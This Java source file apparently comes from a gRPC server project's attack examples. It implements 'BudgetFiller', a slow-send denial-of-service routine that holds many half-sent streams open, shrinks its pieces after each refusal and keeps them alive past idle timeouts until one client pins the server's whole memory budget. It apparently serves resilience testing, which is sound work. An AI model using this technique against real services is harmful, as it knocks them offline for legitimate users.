/*
 * Licensed under the Apache License, Version 2.0.
 */
package dev.predictgrpc.examples.attack;

import com.google.protobuf.ByteString;
import io.grpc.Channel;
import io.grpc.Status;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Fills a server's memory budget with input it must hold: streams that announce a 62 MB batch body,
 * send part of it and go quiet. The server counts every byte it holds against its budget, so this
 * attacker pays a byte for each byte it pins, but one client may pin the whole budget.
 *
 * <p>It sees only what any client sees, refusals: it fills with big pieces, and each time a stream
 * is refused (which frees that stream's bytes) it carries on with smaller pieces on new streams,
 * until the pieces are a few KiB. Not thread-safe; one attacker per instance.
 */
public final class BudgetFiller {
  private static final int COLUMNS = 4;
  private static final long ROWS = 3_900_000;

  /** The smallest piece worth sending: the server counts held input in 4 KiB granules. */
  private static final int SMALLEST_PIECE = 4 << 10;

  /** How long the server is given to count a piece before the next one goes out. */
  private static final long SETTLE_MILLIS = 3;

  /** How often the holding streams send an empty chunk while the fill goes on. */
  private static final Duration PING_PERIOD = Duration.ofMillis(250);

  private final Channel channel;
  private final StatusTally refusals;

  /** Open streams and the body bytes each has sent. */
  private final Map<HostileStream, Long> holding = new LinkedHashMap<>();

  private BudgetFiller(Channel channel, StatusTally refusals) {
    this.channel = channel;
    this.refusals = refusals;
  }

  /**
   * Fills the budget of the server behind {@code channel}, opening at most {@code maxStreams}
   * streams and stopping after {@code timeout}; the streams stay open, idle, until the server ends
   * them or {@link #cancel()}. Statuses of refused streams go to {@code refusals}.
   */
  public static BudgetFiller fill(
      Channel channel, int maxStreams, Duration timeout, StatusTally refusals)
      throws InterruptedException {
    BudgetFiller filler = new BudgetFiller(channel, refusals);
    filler.run(maxStreams, timeout);
    return filler;
  }

  private void run(int maxStreams, Duration timeout) throws InterruptedException {
    long deadline = System.nanoTime() + timeout.toNanos();
    int piece = 1 << 20;
    int opened = 0;
    long lastPing = System.nanoTime();
    while (opened < maxStreams && System.nanoTime() < deadline) {
      if (System.nanoTime() - lastPing > PING_PERIOD.toNanos()) {
        ping(); // Filling can take longer than the server's idle timeout.
        lastPing = System.nanoTime();
      }
      opened++;
      // Big pieces go eight to a stream; the smallest ones one to a stream, so that the refusal
      // that ends the fill frees no more than one granule.
      if (!tryHold(piece, piece > SMALLEST_PIECE ? 8 : 1, deadline)) {
        if (piece == SMALLEST_PIECE) {
          break; // Less than a granule is left.
        }
        piece = Math.max(SMALLEST_PIECE, piece / 4);
      }
    }
    // A late refusal frees a stream's bytes; count only the streams still open.
    Thread.sleep(100);
    forgetEnded();
  }

  /**
   * Opens a stream that announces a big body and sends {@code pieces} pieces of it.
   *
   * @return whether the stream was still open (holding its bytes) after a short wait
   */
  private boolean tryHold(int piece, int pieces, long deadline) throws InterruptedException {
    HostileStream stream = HostileStream.open(channel).header("echo");
    stream.chunk(HostileIpc.announcedBody(COLUMNS, ROWS));
    long sent = 0;
    for (int i = 0; i < pieces && !stream.isDone() && System.nanoTime() < deadline; i++) {
      stream.chunk(IpcWriter.zeros(piece));
      sent += piece;
      Thread.sleep(SETTLE_MILLIS);
    }
    Thread.sleep(SETTLE_MILLIS * 5);
    if (stream.isDone()) {
      refusals.add(stream.status().join());
      return false;
    }
    holding.put(stream, sent);
    return true;
  }

  /** Sends an empty chunk on every holding stream: no memory, but a message. */
  private void ping() {
    for (HostileStream stream : holding.keySet()) {
      if (!stream.isDone()) {
        stream.chunk(ByteString.EMPTY);
      }
    }
  }

  private void forgetEnded() {
    for (HostileStream stream : List.copyOf(holding.keySet())) {
      if (stream.isDone()) {
        holding.remove(stream);
        refusals.add(stream.status().join());
      }
    }
  }

  /**
   * Keeps the budget full for {@code duration}: every {@code period}, an empty chunk on each
   * holding stream, and one more granule on a new stream (up to {@code maxStreams}) in case memory
   * was freed meanwhile. An empty chunk costs the server no memory, but it is a message, and the
   * server's idle timeout counts the time between messages.
   */
  public void keepAlive(Duration period, Duration duration, int maxStreams)
      throws InterruptedException {
    long deadline = System.nanoTime() + duration.toNanos();
    while (System.nanoTime() < deadline) {
      ping();
      forgetEnded();
      if (holding.size() < maxStreams) {
        tryHold(SMALLEST_PIECE, 1, deadline);
      }
      Thread.sleep(period.toMillis());
    }
  }

  /** How many holding streams are still open. */
  public int stillOpen() {
    return (int) holding.keySet().stream().filter(s -> !s.isDone()).count();
  }

  /** The streams that were still open, holding their bytes, when filling stopped. */
  public List<HostileStream> holding() {
    return List.copyOf(holding.keySet());
  }

  /**
   * Body bytes sent on streams still open when filling stopped (an upper bound of what is held).
   */
  public long bytesSent() {
    return holding.values().stream().mapToLong(Long::longValue).sum();
  }

  /**
   * Waits up to {@code timeout} for the server to end every holding stream.
   *
   * @return their statuses; a stream still open is left out
   */
  public List<Status> awaitEnded(Duration timeout) throws InterruptedException {
    long deadline = System.nanoTime() + timeout.toNanos();
    List<Status> statuses = new ArrayList<>();
    for (HostileStream stream : holding.keySet()) {
      Status status =
          stream.awaitStatus(Duration.ofNanos(Math.max(1, deadline - System.nanoTime())));
      if (status != null) {
        statuses.add(status);
      }
    }
    return statuses;
  }

  /** Cancels every stream still open. */
  public void cancel() {
    holding.keySet().forEach(HostileStream::cancel);
  }
}
